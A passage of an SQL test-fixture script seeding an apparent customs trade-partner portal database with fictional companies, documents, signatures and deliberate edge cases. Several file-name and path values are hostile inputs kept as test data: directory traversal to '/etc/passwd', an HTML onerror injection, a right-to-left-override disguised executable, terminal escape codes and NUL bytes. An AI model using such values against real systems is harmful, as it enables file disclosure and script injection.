  (2104, 'PUBLIC', NULL, NULL, 'handbook-for-everybody.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2105, 'EXCHANGE', NULL, NULL, 'of-nobody.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2106, 'PARTNER', NULL, 2199, 'of-a-model-that-never-was.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2107, 'PARTNER', NULL, 502, 'of-a-model-that-is-held.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2108, 'PARTNER', 21, 2199, 'missing-model-good-profile.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2109, 'PARTNER', 5, 502, 'held-model-good-profile.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2110, 'PARTNER', 2198, NULL, 'of-a-profile-that-never-was.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2111, 'PARTNER', 4, NULL, 'of-a-profile-that-is-held.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2112, 'EXCHANGE', NULL, NULL, 'home-is-the-first-good-link.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2113, 'EXCHANGE', NULL, NULL, 'first-as-a-number.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2114, 'PARTNER', 21, 2101, 'linked-to-everything.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2115, 'PARTNER', 21, NULL, 'links-into-the-void.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2116, 'PARTNER', 21, 2101, 'version-two.txt', 'two', '2020-01-01 00:00:00', 'N'),
  (2117, 'PARTNER', 21, NULL, 'wants-to-go-next-door.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2118, 'PUBLIC', NULL, NULL, 'public-and-linked.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2119, 'PARTNER', NULL, 2199, 'missing-model-good-link.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2145, 'PARTNER', 21, 2101, 'of-one-house-linked-to-the-other.txt', 1, '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES
  (2101, CAST('Document 2101.' AS BLOB)), (2102, CAST('Document 2102.' AS BLOB)), (2103, CAST('Document 2103.' AS BLOB)), (2104, CAST('Document 2104.' AS BLOB)), (2105, CAST('Document 2105.' AS BLOB)),
  (2106, CAST('Document 2106.' AS BLOB)), (2107, CAST('Document 2107.' AS BLOB)), (2108, CAST('Document 2108.' AS BLOB)), (2109, CAST('Document 2109.' AS BLOB)), (2110, CAST('Document 2110.' AS BLOB)),
  (2111, CAST('Document 2111.' AS BLOB)), (2112, CAST('Document 2112.' AS BLOB)), (2113, CAST('Document 2113.' AS BLOB)), (2114, CAST('Document 2114.' AS BLOB)), (2115, CAST('Document 2115.' AS BLOB)),
  (2119, CAST('Document 2119.' AS BLOB)), (2145, CAST('Document 2145.' AS BLOB)), (2116, CAST('Document 2116.' AS BLOB)), (2117, CAST('Document 2117.' AS BLOB)), (2118, CAST('Document 2118.' AS BLOB)),
  (2150, CAST('Bytes that no document claims.' AS BLOB));
INSERT INTO document_link VALUES
  (2101, 'RESPONSE', 2101, '2020-01-01 00:00:00'), (2103, 'RESPONSE', 2101, '2020-01-01 00:00:00'), (2103, 'RESPONSE', 2102, '2020-01-01 00:00:00'),
  (2112, 'RESPONSE', 2102, '2020-01-01 00:00:00'), (2112, 'VALIDATION', 2201, '2020-01-01 00:00:00'),
  (2113, 'RESPONSE', 301, '2020-01-01 00:00:00'), (2113, 'RESPONSE', 2101, '2020-01-01 00:00:00'),         -- 301 < 2101 as numbers, not as texts
  (2114, 'RESPONSE', 2101, '2020-01-01 00:00:00'), (2114, 'FINDING_RESPONSE', 2101, '2020-01-01 00:00:00'), (2114, 'VALIDATION', 2101, '2020-01-01 00:00:00'),
  (2114, 'SIGNATURE', 2101, '2020-01-01 00:00:00'), (2114, 'MESSAGE', 2101, '2020-01-01 00:00:00'), (2114, 'MODEL', 2101, '2020-01-01 00:00:00'),
  (2115, 'RESPONSE', 999999, '2020-01-01 00:00:00'), (2115, 'RESPONSE', 502, '2020-01-01 00:00:00'), (2115, 'INVOICE', 2101, '2020-01-01 00:00:00'),
  (2116, 'RESPONSE', 2101, '2020-01-01 00:00:00'), (2117, 'RESPONSE', 2201, '2020-01-01 00:00:00'), (2118, 'VALIDATION', 2101, '2020-01-01 00:00:00'),
  (2189, 'RESPONSE', 2101, '2020-01-01 00:00:00'), (2119, 'RESPONSE', 2102, '2020-01-01 00:00:00'), (2119, 'VALIDATION', 2201, '2020-01-01 00:00:00'),
  (2145, 'RESPONSE', 2102, '2020-01-01 00:00:00'), (2101, 'RESPONSE', 'the first', '2020-01-01 00:00:00'), (2101, NULL, 2101, '2020-01-01 00:00:00');
-- bytes on the file share (C6)
INSERT INTO document (document_id, library_cd, company_profile_id, file_name, object_path, version_no, uploaded_at, deleted_ind) VALUES
  (2120, 'PARTNER', 21, 'neither content nor path', NULL, 1, '2020-01-01 00:00:00', 'N'),
  (2121, 'PARTNER', 21, 'on the share', '2016/plan.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2122, 'PARTNER', 21, 'two dots out of the root', '../outside.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2123, 'PARTNER', 21, 'a leading slash', '/2016/plan.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2124, 'PARTNER', 21, 'a link out of the root', 'odd/leads-out.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2125, 'PARTNER', 21, 'a link within the root', 'odd/leads-in.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2126, 'PARTNER', 21, 'a pipe, which would wait for ever', 'odd/pipe.pdf', 1, '2020-01-01 00:00:00', 'N'),
  (2127, 'PARTNER', 21, 'a folder', 'odd/folder.pdf', 1, '2020-01-01 00:00:00', 'N'),
  (2128, 'PARTNER', 21, 'a link to nothing', 'odd/leads-nowhere.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2129, 'PARTNER', 21, 'two dots within the root', 'odd/../2018/seal-log.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2130, 'PARTNER', 21, 'backslashes', 'odd/scan\2014\seal.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2131, 'PARTNER', 21, 'a line end', 'odd/new' || char(10) || 'line.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2132, 'PARTNER', 21, 'a composed accent', 'odd/caf' || char(233) || '.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2133, 'PARTNER', 21, 'a decomposed accent', 'odd/cafe' || char(769) || '.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2134, 'PARTNER', 21, 'a path that is no text', CAST(X'6F64642F6C6174696E312DE92E747874' AS TEXT), 1, '2020-01-01 00:00:00', 'N'),
  (2135, 'PARTNER', 21, 'an empty path', '', 1, '2020-01-01 00:00:00', 'N'),
  (2136, 'PARTNER', 21, 'through a folder that leads out', 'odd/way-out/outside.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2137, 'PARTNER', 21, 'not there', '2016/never-was.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2138, 'PARTNER', 21, 'a zero character behind a good path', '2016/plan.txt' || char(0) || '.pdf', 1, '2020-01-01 00:00:00', 'N'),
  (2139, 'PARTNER', 21, 'an empty file', 'odd/empty.bin', 1, '2020-01-01 00:00:00', 'N'),
  (2140, 'PARTNER', 21, 'content and path', '2016/plan.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2141, 'PARTNER', 21, 'out of the root and in again', '../files/2016/plan.txt', 1, '2020-01-01 00:00:00', 'N'),
  (2142, 'PARTNER', 21, 'three dots', 'odd/...', 1, '2020-01-01 00:00:00', 'N'),
  (2143, 'PARTNER', 21, 'a path of 605 characters', '2016/' || replace(hex(zeroblob(300)), '0', 'p'), 1, '2020-01-01 00:00:00', 'N'),
  (2144, 'PARTNER', 21, 'held, with a good path', '2018/seal-log.txt', 'three', '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES (2140, CAST('The content row goes before the file.' AS BLOB));
-- recorded digests and sizes (C8), the same bytes several times (C9)
INSERT INTO document (document_id, library_cd, company_profile_id, file_name, size_bytes, sha256_hex, version_no, uploaded_at, deleted_ind) VALUES
  (2151, 'PARTNER', 21, 'wrong digest', 3, 'aaaaaaaa8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad', 1, '2020-01-01 00:00:00', 'N'),
  (2152, 'PARTNER', 21, 'wrong size', 4, NULL, 1, '2020-01-01 00:00:00', 'N'),
  (2153, 'PARTNER', 21, 'digest in capitals', 3, 'BA7816BF8F01CFEA414140DE5DAE2223B00361A396177A9CB410FF61F20015AD', 1, '2020-01-01 00:00:00', 'N'),
  (2154, 'PARTNER', 21, 'wrong digest and size', 4, 'aaaaaaaa8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad', 1, '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES (2151, X'616263'), (2152, X'616263'), (2153, X'616263'), (2154, X'616263');
-- versions (C11)
INSERT INTO document (document_id, library_cd, company_profile_id, security_model_id, file_name, version_no, previous_document_id, uploaded_at, deleted_ind) VALUES
  (2160, 'PARTNER', 21, NULL, 'first version', 1, NULL, '2020-01-01 00:00:00', 'N'), (2161, 'PARTNER', 21, NULL, 'second version', 2, 2160, '2020-01-02 00:00:00', 'N'),
  (2162, 'PARTNER', 21, NULL, 'third version', 3, 2161, '2020-01-03 00:00:00', 'Y'), (2163, 'PARTNER', 21, NULL, 'after one that never was', 2, 2199, '2020-01-01 00:00:00', 'N'),
  (2164, 'PARTNER', 21, NULL, 'after 2165', 2, 2165, '2020-01-01 00:00:00', 'N'), (2165, 'PARTNER', 21, NULL, 'after 2164', 2, 2164, '2020-01-01 00:00:00', 'N'),
  (2166, 'PARTNER', 21, NULL, 'after itself', 2, 2166, '2020-01-01 00:00:00', 'N'), (2167, 'PARTNER', 21, 2102, 'after one of the other house', 2, 2101, '2020-01-01 00:00:00', 'N'),
  (2168, 'PARTNER', 21, NULL, 'after one that is held', 2, 2116, '2020-01-01 00:00:00', 'N'), (2169, 'PARTNER', 21, NULL, 'in a circle with 2170', 2, 2170, '2020-01-01 00:00:00', 'N'),
  (2170, 'PARTNER', 21, NULL, 'held, and in a circle', 'x', 2169, '2020-01-01 00:00:00', 'N'), (2171, 'PARTNER', 21, NULL, 'after a circle, not on it', 3, 2164, '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES
  (2160, X'616263'), (2161, X'616263'), (2162, X'616263'), (2163, X'616263'), (2164, X'616263'), (2165, X'616263'), (2166, X'616263'), (2167, X'616263'), (2168, X'616263'), (2169, X'616263'), (2171, X'616263');
-- hostile names (C12), visibility (C15), soft-deleted (C20), odd bytes
INSERT INTO document (document_id, library_cd, company_profile_id, file_name, mime_type, version_no, uploaded_at, deleted_ind) VALUES
  (2172, 'PARTNER', 21, '../../../../etc/passwd', NULL, 1, '2020-01-01 00:00:00', 'N'), (2173, 'PARTNER', 21, 'C:\Windows\CON', NULL, 1, '2020-01-01 00:00:00', 'N'),
  (2174, 'PARTNER', 21, 'invoice' || char(8238) || 'fdp.exe', NULL, 1, '2020-01-01 00:00:00', 'N'), (2175, 'PARTNER', 21, 'bell' || char(7) || char(27) || '[2J' || char(10) || '.txt', NULL, 1, '2020-01-01 00:00:00', 'N'),
  (2176, 'PARTNER', 21, replace(hex(zeroblob(200)), '0', 'n'), NULL, 1, '2020-01-01 00:00:00', 'N'), (2177, 'PARTNER', 21, '', '', 1, '2020-01-01 00:00:00', 'N'),
  (2178, 'PARTNER', 21, '<img src=x onerror=alert(1)>.png', 'text/html', 1, '2020-01-01 00:00:00', 'N'), (2179, 'PARTNER', 21, 'aux.txt. ', NULL, 1, '2020-01-01 00:00:00', 'N'),
  (2180, 'INTERNAL', 21, 'for the specialist only.txt', NULL, 1, '2020-01-01 00:00:00', 'N'), (2181, 'PARTNER', 21, 'deleted.txt', NULL, 1, '2020-01-01 00:00:00', 'Y'),
  (2182, 'PARTNER', 21, 'zero bytes.bin', NULL, 1, '2020-01-01 00:00:00', 'N'), (2183, 'PARTNER', 21, '100,000 bytes.bin', NULL, 1, '2020-01-01 00:00:00', 'N'),
  (2184, 'PARTNER', 21, 'a text where bytes belong', NULL, 1, '2020-01-01 00:00:00', 'N'), (2185, 'PARTNER', 21, 'nul' || char(0) || 'byte.txt', NULL, 1, '2020-01-01 00:00:00', 'N');
INSERT INTO document_content VALUES
  (2172, X'616263'), (2173, X'616263'), (2174, X'616263'), (2175, X'616263'), (2176, X'616263'), (2177, X'616263'), (2178, X'616263'), (2179, X'616263'), (2180, X'616263'), (2181, X'616263'),
  (2182, X''), (2183, zeroblob(100000)), (2184, 'naïve text'), (2185, X'616263');

-- 23. Paper Trail Air & Export: every kind of signature ---------------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (23, 'Paper Trail Air & Export', '2003-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (2301, 'ink@paper-trail.example', 'x', 'Inka', 'Trail', 'ACTIVE', '2003-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (2301, 23, 2301, 'OFFICER', 'Y', 'Y', 'Y', 'Inka', 'Trail', 'ink@paper-trail.example', NULL, NULL, '2003-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (2302, 23, 1701, 'CONSULTANT', 'N', 'N', 'N', 'Per', 'Lindqvist', NULL, NULL, 1, '2012-01-01 00:00:00', '2018-01-01 00:00:00', '2018-01-01 00:00:00');
INSERT INTO security_model VALUES
  (2301, 23, 'Imports', 'APPLICATION', NULL, '2003-01-01 00:00:00', 'N', '2003-01-01 00:00:00'), (2302, 23, 'Exports', 'EXPANSION', 2301, '2004-01-01 00:00:00', 'N', '2004-01-01 00:00:00'),
  (2303, 23, 'Air', 'EXPANSION', 2301, '2022-01-01 00:00:00', 'N', '2022-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2301, 2301, 'IMP', '10002301', 'CERTIFIED', '2003-01-01 00:00:00', '2020-01-01 00:00:00'), (2302, 2302, 'EXP', '10002302', 'CERTIFIED', '2004-01-01 00:00:00', '2020-01-01 00:00:00'),
  (2303, 2303, 'AIR', '10002303', 'CERTIFIED', '2022-01-01 00:00:00', '2022-01-01 00:00:00');
INSERT INTO entity_identifier VALUES
  (2301, 23, NULL, 'IOR', '23-0000001', 'Y', NULL, NULL), (2302, 23, NULL, 'BOND', 'B-23', 'Y', NULL, NULL), (2303, 23, NULL, 'EIN', '23-0000002', 'Y', NULL, NULL), (2304, 23, NULL, 'IATA', '23-1', 'Y', NULL, NULL);
INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, security_model_id, entity_id, signer_user_id, signer_name, signed_at) VALUES
  (2301, 2, 23, 2301, 2301, 2301, 'Inka Trail', '2016-01-01 00:00:00'),       -- the entity's
  (2302, 2, 23, 2302, NULL, 2301, 'Inka Trail', '2016-01-01 00:00:00'),       -- the model's
  (2303, 1, 23, NULL, NULL, 2301, 'Inka Trail', '2010-01-01 00:00:00'),       -- the profile's, from before the air carrier's account
  (2304, 2, 23, NULL, 2303, 2301, 'Inka Trail', '2016-01-01 00:00:00'),       -- the entity's, from before it was created
  (2305, 99, 23, NULL, 2301, 2301, 'Inka Trail', '2016-01-01 00:00:00'),      -- an unknown agreement version
  (2306, 2, 23, NULL, 2301, 1701, 'Per Lindqvist', '2016-01-01 00:00:00'),    -- a consultant's
  (2307, 2, 23, NULL, 2301, 2301, 'Inka Trail', '2099-01-01 00:00:00'),       -- in the future
  (2308, 2, 23, NULL, 2301, 2301, 'Inka Trail', '2015-07-31 23:59:59'),       -- one second too early
  (2309, 5, 23, NULL, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for importers: on one account of three
  (2310, 6, 23, NULL, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for a type that this profile lacks: on all
  (2311, 2, 23, NULL, 2302, 2399, 'Nobody Known', '2016-01-01 00:00:00'),     -- by a user that does not exist
  (2312, 7, 23, 2302, NULL, 2301, 'Inka Trail', '2022-06-01 00:00:00'),       -- for a type that is missing from the catalogue
  (2313, 2, 23, NULL, 2397, 2301, 'Inka Trail', '2016-01-01 00:00:00');       -- for an entity that does not exist
INSERT INTO program_participation VALUES
  (2301, 23, 2301, 'PIP_CA', 'ACTIVE', 2399, '2012-06-01'), (2302, 23, NULL, 'NEEC_MX', 'ACTIVE', 2305, '2012-06-01');

-- 24. Every Answer Imports: duplicate answers, answers that no store accepts, due dates around the freeze ---------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (24, 'Every Answer Imports', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (2401, 'eva@every-answer.example', 'x', 'Eva', 'Reply', 'ACTIVE', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (2401, 24, 2401, 'OFFICER', 'Y', 'Y', 'Y', 'Eva', 'Reply', 'eva@every-answer.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (2401, 24, 'Answers', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2401, 2401, 'IMP', '10002401', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (2401, 24, NULL, 'IOR', '24-0000001', 'Y', NULL, NULL), (2402, 24, NULL, 'BOND', 'B-24', 'Y', NULL, NULL);
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, window_opens_dt, due_dt, current_ind) VALUES
  (2401, 2401, 3, 2023, 'PENDING_REVIEW', '2023-06-01', '2023-09-16', 'Y'), (2402, 2401, 2, 2019, 'INCOMPLETE', NULL, NULL, 'N'), (2403, 2401, 3, 2022, 'APPROVED', NULL, '2023-09-30', 'N'),
  (2404, 2401, 3, 2021, 'APPROVED', NULL, '2023-10-01', 'N'), (2405, 2401, 99, 2020, 'APPROVED', NULL, '2023-09-15', 'N'), (2406, 2401, 1, 2014, 'REJECTED', NULL, NULL, 'N');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (2401, 2401, 101, 'The oldest of three answers.', 'COMPLETE', '2023-01-01 00:00:00'), (2402, 2401, 101, 'As young as the next, with the lower id.', 'COMPLETE', '2023-03-01 00:00:00'),
  (2403, 2401, 101, 'The one that counts.', 'COMPLETE', '2023-03-01 00:00:00'), (2404, 2401, 301, 'Held: its date cannot be read.', 'COMPLETE', 'in spring'),
  (2405, 2401, 301, 'The only one that loads.', 'COMPLETE', '2023-01-01 00:00:00'), (2406, 2401, 405, 'zero' || char(0) || 'character', 'COMPLETE', '2023-01-01 00:00:00'),
  (2407, 2401, 601, CAST(X'4C6174696E2D313A20E9E8' AS TEXT), 'COMPLETE', '2023-01-01 00:00:00'), (2408, 2401, 702, CAST(X'737572726F67617465EDA0BDEDB880' AS TEXT), 'COMPLETE', '2023-01-01 00:00:00'),
  (2409, 2401, 723, CAST('Bytes of a good text: naïve' AS BLOB), 'COMPLETE', '2023-01-01 00:00:00'), (2410, 2401, 1101, X'FFFE00F09F98', 'COMPLETE', '2023-01-01 00:00:00'),
  (2411, 2403, 8888, 'To a question that the catalogue lacks.', 'COMPLETE', '2022-01-01 00:00:00'), (2412, 2499, 8889, 'Held, and makes no stub.', 'COMPLETE', '2022-01-01 00:00:00'),
  (2413, 2403, 9999, 'To a question of which only the applicability is known.', 'COMPLETE', '2022-01-01 00:00:00'),
  (2414, 2403, 101, replace(hex(zeroblob(100000)), '00', 'ab'), 'COMPLETE', '2022-01-01 00:00:00'),
  (2415, 2403, 102, '  blanks around, ' || char(13) || char(10) || char(9) || 'e' || char(769) || ' decomposed, \N \. NULL ''quoted'' "twice"  ', 'COMPLETE', '2022-01-01T00:00:00'),
  (2416, 2402, 2101, 'Of an older year, superseded, and kept.', 'INCOMPLETE', '2019-01-01T00:00:00.000001Z'), (2417, 2405, 101, 'Of a version that nobody knows.', 'COMPLETE', '2020-01-01 00:00:00+00:00'),
  (2418, 2403, 301, CAST(X'C0AFE282F4908080' AS TEXT), 'COMPLETE', '2022-01-01 00:00:00'), (2419, 2403, 405, char(128512) || char(0x10FFFF) || char(0xFEFF) || char(0x2028), 'COMPLETE', '2022-01-01 00:00:00');
INSERT INTO validation (validation_id, company_profile_id, entity_id, validation_type_cd, status_cd, initiated_dt) VALUES (2401, 24, 2401, 'VIRTUAL', 'OPEN', '2023-07-01');
INSERT INTO validation_finding VALUES
  (2401, 2401, 8888, 'ACTION_REQUIRED', 'About a question that the catalogue lacks.', '2023-09-20', 'OPEN'), (2402, 2401, 8890, 'RECOMMENDATION', 'Another one.', '2023-09-15', 'OPEN');
INSERT INTO portal_task VALUES (2401, 24, 2401, 'ANSWER_FINDING', '2023-09-30', NULL), (2402, 24, 2401, 'ANSWER_FINDING', '2023-10-01 00:00:00', NULL);

-- 25. Two Sites Manufacturing: one validation for two accounts ---------------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (25, 'Two Sites Manufacturing', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (2501, 25, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Tea', 'Site', 'tea@two-sites.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (2501, 25, 'Site 1', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (2502, 25, 'Site 2', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2501, 2501, 'FMF', '10002501', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (2502, 2502, 'FMF', '10002502', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (2501, 25, NULL, 'MID', 'VNTWOSIT1HAI', 'Y', NULL, NULL);
INSERT INTO validation (validation_id, company_profile_id, security_model_id, entity_id, validation_type_cd, status_cd, lead_cbp_user_id) VALUES
  (2501, 25, NULL, NULL, 'INITIAL', 'CLOSED', 77), (2502, 25, 2502, NULL, 'REVALIDATION', 'CLOSED', 1);                    -- specialist 77 does not exist
INSERT INTO validation_visit (visit_id, validation_id, visit_name, country_cd) VALUES (2501, 2501, 'Both sites', 'VN');
INSERT INTO svi_setting (company_profile_id, consent_signature_id, auto_accept_ind) VALUES (25, NULL, 'N');

-- 26. Watcher Exports and 27. Watched Freight: which company monitors which ------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
  (26, 'Watcher Exports', '2008-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (27, 'Watched Freight', '2009-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (2601, 'wat@watcher.example', 'x', 'Wat', 'Cher', 'ACTIVE', '2008-01-01 00:00:00', '2020-01-01 00:00:00'), (2701, 'wes@watched.example', 'x', 'Wes', 'Ched', 'ACTIVE', '2009-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (2601, 26, 2601, 'OFFICER', 'Y', 'Y', 'Y', 'Wat', 'Cher', 'wat@watcher.example', NULL, NULL, '2008-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (2701, 27, 2701, 'OFFICER', 'Y', 'Y', 'Y', 'Wes', 'Ched', 'wes@watched.example', NULL, NULL, '2009-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (2601, 26, 'Watcher 1', 'APPLICATION', NULL, '2008-01-01 00:00:00', 'N', '2008-01-01 00:00:00'), (2602, 26, 'Watcher 2', 'APPLICATION', NULL, '2020-01-01 00:00:00', 'N', '2020-01-01 00:00:00'),
  (2701, 27, 'Watched 1', 'APPLICATION', NULL, '2009-01-01 00:00:00', 'N', '2009-01-01 00:00:00'), (2702, 27, 'Watched 2', 'APPLICATION', NULL, '2019-01-01 00:00:00', 'N', '2019-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2601, 2601, 'EXP', '10002601', 'CERTIFIED', '2008-01-01 00:00:00', '2020-01-01 00:00:00'), (2602, 2602, 'EXP', '10002602', 'APPROVED', '2020-01-01 00:00:00', '2020-01-01 00:00:00'),
  (2701, 2701, '3PL', '10002701', 'CERTIFIED', '2009-01-01 00:00:00', '2020-01-01 00:00:00'), (2702, 2702, '3PL', '10002702', 'CERTIFIED', '2019-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (2601, 26, NULL, 'DUNS', '260000001', 'Y', NULL, NULL);
INSERT INTO agreement_signature (signature_id, agreement_version_id, company_profile_id, signer_user_id, signer_name, signed_at) VALUES (2601, 3, 26, 2601, 'Wat Cher', '2020-06-01 00:00:00');
INSERT INTO svi_setting (company_profile_id, consent_signature_id, auto_accept_ind) VALUES (26, 2601, 'Y'), (27, 2799, 'Y');
INSERT INTO svi_link (link_id, monitor_profile_id, monitor_entity_id, monitored_profile_id, monitored_entity_id, request_status_cd, requested_at,
  requested_by_user_id, responded_at, ended_at) VALUES
  (2601, 26, 2601, 27, 2701, 'ACCEPTED', '2010-01-01 00:00:00', 2601, '2010-01-05 00:00:00', NULL),       -- superseded by 2606
  (2602, 26, NULL, 27, NULL, 'DECLINED', '2012-01-01 00:00:00', 2601, '2012-01-05 00:00:00', NULL),       -- of 27 only the account of 2009 counts
  (2603, 26, NULL, 27, NULL, 'SENT', '2021-01-01 00:00:00', 2601, NULL, NULL),                            -- not answered: the request's date counts
  (2604, 26, 2601, 27, NULL, 'SENT', '2005-01-01 00:00:00', 2601, NULL, NULL),                            -- before 27 had any account
  (2605, 26, 2601, 26, 2601, 'ACCEPTED', '2010-01-01 00:00:00', 2601, '2010-01-05 00:00:00', NULL),       -- monitors itself
  (2606, 26, 2601, 27, 2701, 'ACCEPTED', '2009-06-01 00:00:00', 2601, '2009-06-05 00:00:00', NULL),       -- the earliest of the pair
  (2607, 26, 2601, 27, 2701, 'ACCEPTED', '2009-05-01 00:00:00', 2601, NULL, NULL),                        -- accepted at an unknown time
  (2608, 26, 2601, 699, NULL, 'SENT', '2010-01-01 00:00:00', 2601, NULL, NULL), (2609, 26, 2601, 4, NULL, 'SENT', '2020-01-01 00:00:00', 2601, NULL, NULL),
  (2610, 26, 697, 27, 2701, 'SENT', '2010-01-01 00:00:00', 2601, NULL, NULL), (2611, 27, 2702, 26, 2602, 'ENDED', '2021-01-01 00:00:00', 2699, '2021-02-01 00:00:00', '2022-01-01 00:00:00'),
  (2612, 26, NULL, 26, NULL, 'DECLINED', '2021-01-01 00:00:00', 2601, '2021-02-01 00:00:00', NULL);       -- the profile monitors itself: its accounts monitor each other

-- 28. Identifier Zoo: numbers of the profile, of an entity, of both, of neither --------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (28, 'Identifier Zoo', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (2801, 28, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Zoe', 'Keeper', 'zoe@zoo.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (2801, 28, 'Cage 1', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (2802, 28, 'Cage 2', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2801, 2801, 'IMP', '10002801', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (2802, 2802, 'HWM', '10002802', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES
  (2801, 28, NULL, 'IOR', '28-0000001', 'Y', NULL, NULL), (2802, 28, NULL, 'SCAC', 'ZOOA', 'Y', NULL, NULL), (2803, 28, NULL, 'USDOT', '2800003', 'Y', NULL, NULL),
  (2804, 28, NULL, 'FILER', 'ZOO', 'Y', NULL, NULL), (2805, 1, 2801, 'DUNS', '28-000-0005', 'Y', NULL, NULL), (2806, NULL, NULL, 'EIN', '28-0000006', 'Y', NULL, NULL),
  (2807, NULL, 2801, 'IOR', '078-05-1120', 'Y', NULL, NULL), (2808, NULL, 2801, 'IOR', ' 219-09-9999 ', 'N', NULL, NULL), (2809, NULL, 2801, 'IOR', '078051120', 'N', NULL, NULL),
  (2810, NULL, 2802, 'DUNS', 'ß-é12' || char(0xFF11) || '  x', 'N', NULL, NULL), (2811, NULL, 2801, 'BOND', 'B-28', 'N', '2012-01-01', '2019-12-31'), (2812, 28, NULL, 'XYZ', 'unknown kind', 'Y', NULL, NULL),
